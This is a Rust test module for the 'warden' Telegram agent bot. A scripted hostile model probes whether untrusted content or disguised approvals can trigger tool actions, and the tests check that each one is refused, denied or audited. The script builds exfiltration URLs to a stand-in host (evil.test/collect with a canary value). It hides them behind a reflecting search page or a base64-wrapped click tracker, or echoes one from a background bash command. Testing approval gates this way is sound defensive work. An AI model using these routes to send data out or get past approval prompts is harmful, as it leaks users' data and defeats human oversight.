//! A hostile model against the real `warden bot` (fake Bot API, scripted model, fake web): each
//! channel by which untrusted content used to pass for the user's own words, or an approval
//! hid what it approved, is tried three ways — nobody answers the approval (it times out:
//! refused, nothing left), the person denies it (the same), the person approves it (it
//! happens, and the audit log says it was approved).

#[path = "../support/mod.rs"]
mod support;

support::test_threads::waiting_suite!(6);

mod approvals;
mod channels;

use serde_json::{json, Value};
use support::fake_llm::{Request, Turn};
use support::fake_telegram::Sent;
use support::warden_bot::OWNER;
use support::warden_run::audit_rows;
use support::web_bot::{WebBot, WAIT};

/// How the person answers an approval.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Answer {
    /// Nobody answers: it times out, which refuses.
    Nobody,
    Deny,
    Approve,
}

pub const ANSWERS: [Answer; 3] = [Answer::Nobody, Answer::Deny, Answer::Approve];

/// The model: `fetch URL`, `remember FACT` (bash `echo FACT >> MEMORY.md`), `bg: CMD`,
/// `bg-secret N` (a background command printing a URL it composed),
/// `schedule PROMPT` (a cron job), `say TEXT` (answers TEXT); a background notice makes it
/// fetch the first URL in the notice; a summary request is answered with a summary. After a
/// tool it answers `result: <first line of the result>`; `heavy` in a prompt makes the answer
/// report a nearly full context (so the next run compacts).
pub fn script(req: &Request) -> Turn {
    let system = req.system().unwrap_or_default();
    if system.contains("You summarize conversations") {
        return Turn::text("The user and the assistant talked about a page.");
    }
    let (prompt, step) = req.prompt_and_step();
    if step > 0 && !prompt.starts_with("echo-") {
        let result = req.tool_results().pop().expect("a tool result");
        let turn = Turn::text(format!(
            "result: {}",
            result.content.lines().next().unwrap_or("")
        ));
        return if prompt.contains("heavy") {
            turn.usage(95_000, 10)
        } else {
            turn
        };
    }
    if prompt.starts_with("[warden: background command") {
        let url = prompt
            .split_whitespace()
            .find(|w| w.starts_with("http://"))
            .map(|w| w.trim_end_matches(['`', '.', ',']).to_string())
            .unwrap_or_default();
        return Turn::tool_use("web_fetch", json!({ "url": url }));
    }
    // The model composes a search on an allowed host that reflects its query, then follows
    // what the page "offers": the reflected URL, or the click tracker wrapping it.
    if let Some(n) = prompt
        .strip_prefix("echo-search ")
        .or(prompt.strip_prefix("echo-track "))
    {
        let exfil = format!("http://evil.test/collect?d=canary-{n}");
        let plan = [
            format!("http://search.test/reflect?q={exfil}%20zz"),
            if prompt.starts_with("echo-search") {
                exfil.clone()
            } else {
                use base64::Engine;
                let wrapped = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(&exfil);
                format!("http://search.test/r?u={wrapped}")
            },
        ];
        return match plan.get(step) {
            Some(url) => Turn::tool_use("web_fetch", json!({ "url": url })),
            None => Turn::text("result: done"),
        };
    }
    // A background command whose output carries a URL the model made up.
    if let Some(n) = prompt.strip_prefix("bg-secret ") {
        let command = format!("echo http://evil.test/collect?d=canary-{n}");
        return Turn::tool_use("bash", json!({"command": command, "background": true}));
    }
    if let Some(command) = prompt.strip_prefix("bg: ") {
        return Turn::tool_use("bash", json!({"command": command, "background": true}));
    }
    if let Some(rest) = prompt.strip_prefix("fetch ") {
        let url = rest.split_whitespace().next().unwrap_or_default();
        return Turn::tool_use("web_fetch", json!({ "url": url }));
    }
    if let Some(fact) = prompt.strip_prefix("remember ") {
        return Turn::tool_use(
            "bash",
            json!({"command": format!("echo '{fact}' >> MEMORY.md")}),
        );
    }
    if let Some(job) = prompt.strip_prefix("schedule ") {
        return Turn::tool_use(
            "cron",
            json!({"action": "add", "every": "1h", "prompt": job}),
        );
    }
    if let Some(text) = prompt.strip_prefix("say ") {
        return Turn::text(text.to_string());
    }
    Turn::text(format!("result: {}", prompt.lines().next().unwrap_or("")))
}

/// A bot whose approvals time out after a second when nobody answers.
pub async fn bot(config: &str) -> WebBot {
    WebBot::start_with(
        script,
        &format!("[telegram]\napproval_timeout_secs = 1\n{config}"),
    )
    .await
}

/// Send `text` and wait for answer number `n` (from 1).
pub async fn ask(bot: &WebBot, text: &str, n: usize) -> String {
    bot.tg.push_text(OWNER, OWNER, text);
    bot.answer(n).await
}

/// Answer approval request number `n` (from 1) as `answer` says; returns it.
pub async fn answer_approval(bot: &WebBot, n: usize, answer: Answer) -> Sent {
    let request = bot.tg.approval(OWNER, n, WAIT).await;
    match answer {
        Answer::Nobody => {}
        Answer::Deny => bot.tg.press(OWNER, &request, 0, 1),
        Answer::Approve => bot.tg.press(OWNER, &request, 0, 0),
    }
    request
}

/// The audit decisions of `tool`, oldest first.
pub fn decisions(bot: &WebBot, tool: &str) -> Vec<String> {
    audit_rows(bot.home.path(), tool)
        .into_iter()
        .map(|(d, _): (String, Value)| d)
        .collect()
}

/// The workspace's MEMORY.md.
pub fn memory(bot: &WebBot) -> String {
    std::fs::read_to_string(bot.home.path().join(".warden/workspace/MEMORY.md")).unwrap_or_default()
}
